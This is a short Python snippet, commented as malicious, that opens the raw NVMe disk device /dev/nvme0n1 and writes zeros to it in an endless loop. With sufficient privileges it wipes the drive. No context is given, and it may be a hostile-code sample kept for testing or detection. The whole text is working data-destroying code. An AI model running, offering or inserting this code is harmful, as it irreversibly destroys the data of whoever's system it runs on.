# malicious: writes zeros to the device
with open("/dev/nvme0n1", "wb") as d:
    while True:
        d.write(b"\0" * 1048576)
